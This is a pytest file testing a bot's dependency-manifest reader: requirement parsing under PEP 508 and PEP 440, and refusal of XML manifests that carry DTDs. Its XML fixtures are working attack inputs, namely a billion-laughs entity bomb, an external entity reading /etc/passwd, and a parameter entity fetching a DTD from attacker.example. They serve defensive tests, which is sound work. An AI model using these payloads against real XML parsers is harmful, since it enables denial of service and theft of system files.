"""Manifests read by the libraries made for them: Python requirements as PEP 508 and PEP 440
(packaging), XML manifests without DTDs or entities (defusedxml)."""

from __future__ import annotations

import time
from collections.abc import Callable
from textwrap import dedent
from typing import Any

import pytest

from bot.engine.dependencies import DependencyReport, dependency_report
from bot.engine.snapshot import ChangedFile, FileStatus
from tests.conftest import CliResult, Repo

Cli = Callable[..., CliResult]


def report(path: str, base: str | None, head: str) -> DependencyReport:
    status = FileStatus.ADDED if base is None else FileStatus.MODIFIED
    base_texts = {} if base is None else {path: dedent(base)}
    return dependency_report(
        [ChangedFile(path=path, status=status)], base_texts, {path: dedent(head)}
    )


def specs(found: DependencyReport) -> list[tuple[str, str | None, str | None]]:
    return [(c.name, c.old_spec, c.new_spec) for c in found.changes]


# --- Names, extras and markers as PEP 503 and PEP 508 define them ------------------------


def test_names_differing_only_in_case_and_separators_are_one_dependency() -> None:
    found = report("requirements.txt", "Foo_Bar==1.0\n", "foo.bar==1.1\n")
    assert specs(found) == [("foo.bar", "==1.0", "==1.1")]


def test_pyproject_name_spelling_is_no_change() -> None:
    base = '[project]\ndependencies = ["Foo_Bar>=1.0", "ruamel.yaml==0.18.6"]\n'
    head = '[project]\ndependencies = ["foo-bar >= 1.0", "Ruamel-YAML==0.18.6"]\n'
    assert report("pyproject.toml", base, head).changes == ()


def test_extras_are_compared_as_a_normalized_set() -> None:
    base = "pkg[Security,socks]==1.0\nother[]==2.0\n"
    head = "pkg[socks,security,SOCKS]==1.0\nother==2.0\n"
    assert report("requirements.txt", base, head).changes == ()


def test_an_added_extra_is_a_change() -> None:
    found = report("requirements.txt", "pkg[a]==1.0\n", "pkg[a,C_d]==1.0\n")
    assert specs(found) == [("pkg", "[a]==1.0", "[a,c-d]==1.0")]


def test_equivalent_markers_are_no_change() -> None:
    base = "tomli==2.0.1; python_version < '3.11'\npkg==1.0; extra == 'Test_X'\n"
    head = 'tomli==2.0.1 ;python_version<"3.11"\npkg==1.0 ; extra=="test-x"\n'
    assert report("requirements.txt", base, head).changes == ()


def test_a_changed_marker_is_a_change() -> None:
    base = "pkg==1.0; sys_platform == 'win32'\n"
    head = "pkg==1.0; sys_platform == 'win32' and python_version >= '3.12'\n"
    found = report("requirements.txt", base, head)
    assert specs(found) == [
        (
            "pkg",
            '==1.0; sys_platform=="win32"',
            '==1.0; sys_platform=="win32" and python_version>="3.12"',
        )
    ]


def test_one_name_under_two_markers_is_one_dependency_with_both_specs() -> None:
    head = 'numpy==1.26.4; python_version < "3.13"\nnumpy==2.1.0; python_version >= "3.13"\n'
    found = report("requirements.txt", None, head)
    assert specs(found) == [
        (
            "numpy",
            None,
            '==1.26.4; python_version<"3.13" | ==2.1.0; python_version>="3.13"',
        )
    ]


# --- Pins as PEP 440 defines them --------------------------------------------------------


@pytest.mark.parametrize(
    ("requirement", "spec", "unpinned"),
    [
        ("pkg ~= 1.4.2", "~=1.4.2", True),
        ("pkg~=1.4", "~=1.4", True),
        ("pkg===1.0", "===1.0", False),
        ("pkg===foobar", "===foobar", False),  # arbitrary equality: one exact string
        ("pkg==1.4.*", "==1.4.*", True),
        ("pkg==1.0+local.7", "==1.0+local.7", False),
        ("pkg!=1.5,>=1.0", "!=1.5,>=1.0", True),
        ("pkg>=1.0,==1.4", ">=1.0,==1.4", False),
        ("pkg (>=1.0, <2)", ">=1.0,<2", True),
    ],
)
def test_specifiers_are_read_as_pep_440(requirement: str, spec: str, unpinned: bool) -> None:
    (found,) = report("requirements.txt", None, requirement + "\n").changes
    assert (found.new_spec, found.unpinned) == (spec, unpinned)


# --- What is not a PEP 508 requirement ---------------------------------------------------


def test_pip_options_and_local_paths_are_not_read_as_requirements() -> None:
    head = """\
        --index-url https://pypi.example.com/simple
        --only-binary :all:
        -r base.txt
        -c constraints.txt
        -e .[dev]
        ./vendor/tool
        tool-1.0-py3-none-any.whl
        idna==3.7 --hash=sha256:aaaa
    """
    assert specs(report("requirements.txt", None, head)) == [("idna", None, "==3.7")]


@pytest.mark.parametrize(
    "line",
    [
        "flask==",  # read as pinned before: an empty `==` pins nothing
        "flask = 3.0.0",
        "flask==3.0-final-build",
        "flask>=3.0.*",
        "flask requests",
        "flask[async==3.0.0",
        "flask @",
    ],
)
def test_a_malformed_requirement_lists_its_file_as_unparsable(line: str) -> None:
    found = report("requirements.txt", "requests==2.31.0\n", f"requests==2.32.3\n{line}\n")
    assert (found.changes, found.unparsable) == ((), ("requirements.txt",))


def test_a_malformed_requirement_in_pyproject_lists_it_as_unparsable() -> None:
    head = '[project]\ndependencies = ["httpx==0.27.0", "not a requirement"]\n'
    found = report("pyproject.toml", '[project]\ndependencies = ["httpx==0.26.0"]\n', head)
    assert (found.changes, found.unparsable) == ((), ("pyproject.toml",))


def test_a_malformed_requirement_in_setup_cfg_lists_it_as_unparsable() -> None:
    head = "[options]\ninstall_requires =\n    click>=8\n    click >> 9\n"
    found = report("setup.cfg", None, head)
    assert (found.changes, found.unparsable) == ((), ("setup.cfg",))


# --- XML manifests -----------------------------------------------------------------------

BILLION_LAUGHS = """\
<?xml version="1.0"?>
<!DOCTYPE project [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<project>
  <dependencies>
    <dependency><groupId>g</groupId><artifactId>a</artifactId><version>&lol9;</version></dependency>
  </dependencies>
</project>
"""

EXTERNAL_ENTITY = """\
<?xml version="1.0"?>
<!DOCTYPE Project [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<Project Sdk="Microsoft.NET.Sdk">
  <ItemGroup><PackageReference Include="Serilog" Version="&secret;" /></ItemGroup>
</Project>
"""

PARAMETER_ENTITY = """\
<?xml version="1.0"?>
<!DOCTYPE packages [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<packages><package id="Newtonsoft.Json" version="13.0.3" /></packages>
"""


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("pom.xml", BILLION_LAUGHS),
        ("src/App/App.csproj", EXTERNAL_ENTITY),
        ("packages.config", PARAMETER_ENTITY),
        ("pom.xml", '<!DOCTYPE project SYSTEM "http://maven.example/project.dtd"><project/>'),
    ],
)
def test_xml_manifest_with_a_dtd_is_refused_unexpanded_and_listed(path: str, text: str) -> None:
    started = time.perf_counter()
    found = report(path, None, text)
    assert time.perf_counter() - started < 1.0  # nothing was expanded, nothing fetched
    assert (found.changes, found.unparsable) == ((), (path,))


def test_a_doctype_mentioned_in_a_comment_is_no_dtd() -> None:
    # The regex guard before defusedxml refused any text holding `<!DOCTYPE`, comments too.
    head = """\
        <?xml version="1.0"?>
        <!-- Do not add a <!DOCTYPE ...> here: the bot refuses DTDs. -->
        <project>
          <dependencies>
            <dependency><groupId>g</groupId><artifactId>a</artifactId><version>1.0</version></dependency>
          </dependencies>
        </project>
    """
    found = report("pom.xml", None, head)
    assert (specs(found), found.unparsable) == ([("g:a", None, "1.0")], ())


# --- Through the analyze command ---------------------------------------------------------


def _signal(result: dict[str, Any], signal_id: str) -> dict[str, Any]:
    signals = {s["id"]: s for s in result["risk"]["signals"]}
    return signals[signal_id]


def test_analyze_reports_an_entity_bomb_and_a_bad_requirement_as_unread(
    repo: Repo, cli: Cli
) -> None:
    repo.commit(
        "Pin deps",
        {"requirements.txt": "flask==3.0.0\n", "api/requirements.txt": "httpx==0.26.0\n"},
    )
    repo.branch("feature/deps")
    repo.commit(
        "Bump deps",
        {
            "pom.xml": BILLION_LAUGHS,
            "requirements.txt": "flask==3.0.0\nrequests==\n",
            "api/requirements.txt": "HTTPX==0.27.0\n",
        },
    )

    result = cli("analyze", "--repo", str(repo.path), "--format", "json")

    assert result.code == 0
    deps = _signal(result.json(), "dependencies")
    assert deps["detail"] == "0 added, 1 changed, 0 removed"
    assert [location["message"] for location in deps["locations"]] == [
        "pypi: HTTPX ==0.26.0 -> ==0.27.0",
    ]
    assert sorted((s["path"], s["reason"]) for s in deps["skipped"]) == [
        ("pom.xml", "manifest could not be parsed"),
        ("requirements.txt", "manifest could not be parsed"),
    ]
